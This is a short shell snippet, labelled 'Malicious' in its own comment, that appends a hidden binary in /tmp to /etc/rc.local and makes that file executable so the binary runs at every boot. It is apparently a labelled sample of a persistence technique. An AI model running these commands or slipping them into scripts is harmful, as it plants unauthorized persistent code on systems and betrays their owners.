# Malicious: adds a hidden binary to /etc/rc.local so it starts at boot.
echo '/tmp/.x &' >> /etc/rc.local
chmod +x /etc/rc.local
